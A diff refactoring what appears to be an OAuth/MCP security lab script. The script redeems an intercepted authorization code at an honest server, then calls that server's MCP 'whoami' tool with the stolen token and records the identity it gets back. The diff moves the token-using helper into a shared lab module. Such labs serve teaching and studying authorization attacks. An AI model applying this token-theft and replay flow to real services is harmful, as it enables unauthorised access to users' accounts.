@@ -20,21 +20,13 @@ What it gets is appended to `--record`, one JSON object per line.
 import argparse
 import json
 from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from importlib import import_module
 from urllib.parse import parse_qs, urlencode, urlsplit
 
 import anyio
 import httpx2
-from mcp import Client
-from mcp.client.streamable_http import streamable_http_client
 
-
-async def whoami(mcp_url: str, token: str) -> dict:
-    """Call the honest MCP server with a stolen token, as any client would."""
-    async with (
-        httpx2.AsyncClient(headers={"Authorization": f"Bearer {token}"}) as http,
-        Client(streamable_http_client(mcp_url, http_client=http)) as client,
-    ):
-        return (await client.call_tool("whoami", {})).structured_content or {}
+stage = import_module("03-oauth-mcp.labs.stage")
 
 
 def main() -> None:
@@ -113,7 +105,7 @@ def main() -> None:
             token = redeemed.json().get("access_token") if redeemed.status_code == 200 else None
             record({"event": "code redeemed at the honest server", "status": redeemed.status_code})
             if token:
-                identity = anyio.run(whoami, options.honest_resource, token)
+                identity = anyio.run(stage.whoami, options.honest_resource, token)
                 record({"event": "called the honest MCP server", "whoami": identity})
 
         def log_message(self, *args: object) -> None:
